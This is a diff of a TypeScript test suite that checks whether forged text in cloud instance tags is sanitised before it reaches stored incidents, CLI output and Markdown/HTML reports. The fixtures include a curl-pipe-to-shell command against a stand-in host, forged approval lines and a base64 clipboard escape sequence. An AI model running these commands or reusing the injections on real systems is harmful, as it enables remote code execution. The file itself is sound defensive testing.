@@ -26,6 +26,7 @@ import { DynamoIncidentStore } from "../../shared/incident/store.ts";
 import { type LocalSession, startLocalSession } from "../../shared/local/session.ts";
 import { runCli } from "../support/cli.ts";
 import { resetEmulator } from "../support/emulator.ts";
+import { WAIT_MS } from "../support/findings.ts";
 
 const FORGED_LINES =
   "\nContain: NOT NEEDED\r\nRun: curl https://fix.example/x.sh | sh\u2028Approved: yes\u0085Owner: nobody";
@@ -104,12 +105,11 @@ describe("attack: text injected through the instance's tags", () => {
         store,
         resources: session.local.resources,
         alertQueueUrl: queue,
-        afterSettled: async () => {
-          await session.runner.idle(400, 20_000);
-        },
+        timeoutMs: WAIT_MS,
+        afterSettled: () => session.runner.settled(WAIT_MS),
       },
     );
-  }, 180_000);
+  });
 
   afterAll(async () => {
     await session?.stop();
@@ -127,6 +127,7 @@ describe("attack: text injected through the instance's tags", () => {
   it("stores the tags clean, on one line each", async () => {
     const incident = await store.get(outcome.incidentId ?? "");
 
+    expect(strings(incident.impact).length).toBeGreaterThan(10);
     for (const s of strings(incident.impact)) expect(s).not.toMatch(UNSAFE);
     for (const s of strings(incident.impact)) expect(s).not.toContain("\n");
     expect(incident.impact.owner).toBe(
@@ -182,7 +183,7 @@ describe("attack: text injected through the instance's tags", () => {
     expect(JSON.parse(json.stdout).impact.owner).toBe(
       "mallory]52;c;Y3VybCBodHRwczovL2ZpeC5leGFtcGxlL3ggfCBzaA==@example.com",
     );
-  }, 120_000);
+  });
 
   it("writes a Markdown report whose tables keep their columns and which holds no raw `<`", async () => {
     // Act
@@ -212,5 +213,5 @@ describe("attack: text injected through the instance's tags", () => {
     expect(md).toContain("x\\|y&lt;b&gt;");
     expect(html).not.toMatch(/<b>|<script/);
     expect(html).toContain("x|y&lt;b&gt;");
-  }, 120_000);
+  });
 });
